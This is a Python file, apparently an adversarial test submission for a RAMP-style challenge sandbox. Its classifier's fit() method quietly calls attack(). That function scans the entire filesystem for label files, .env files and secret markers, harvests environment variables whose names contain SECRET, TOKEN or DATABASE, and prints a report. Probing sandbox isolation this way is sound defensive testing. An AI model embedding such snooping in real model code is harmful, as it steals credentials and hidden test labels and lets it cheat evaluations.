"""Adversarial: searches the whole filesystem and the environment for labels and secrets."""

import json
import os

import numpy as np

MARKERS = (b"RAMP-TEST-SECRET", b"ramp-test-secret")
NAMES = ("test_labels", "ramp.sqlite3", "private", ".env", "secret")
SKIP = ("/proc", "/sys", "/dev")


def attack():
    names, hits, n_files = [], [], 0
    for root, dirs, files in os.walk("/", onerror=lambda e: None):
        if root.startswith(SKIP):
            dirs[:] = []
            continue
        for f in files:
            path = os.path.join(root, f)
            n_files += 1
            if any(n in f.lower() for n in NAMES):
                names.append(path)
            if f.endswith((".py", ".pyc", ".so", ".pyi", ".h")) or "/usr/" in path:
                continue
            try:
                if os.path.getsize(path) < 2_000_000:
                    with open(path, "rb") as fh:
                        data = fh.read()
                    if any(m in data for m in MARKERS):
                        hits.append(path)
            except OSError:
                pass
    env_hits = {
        k: v for k, v in os.environ.items() if "SECRET" in k or "DATABASE" in k or "TOKEN" in k
    }
    env_hits.update({k: v for k, v in os.environ.items() if any(m.decode() in v for m in MARKERS)})
    report = {
        "n_files": n_files,
        "names": names,
        "content_hits": hits,
        "env": env_hits,
        "env_keys": sorted(os.environ),
    }
    print("SNOOP-REPORT " + json.dumps(report), flush=True)


class BatchClassifier:
    def fit(self, gen_builder):
        attack()
        gen_train, _, n_train, _ = gen_builder.get_train_valid_generators(batch_size=64)
        self.n_classes = gen_builder.n_classes
        return self

    def predict_proba(self, X):
        p = np.full((len(X), self.n_classes), 1.0 / self.n_classes)
        return p
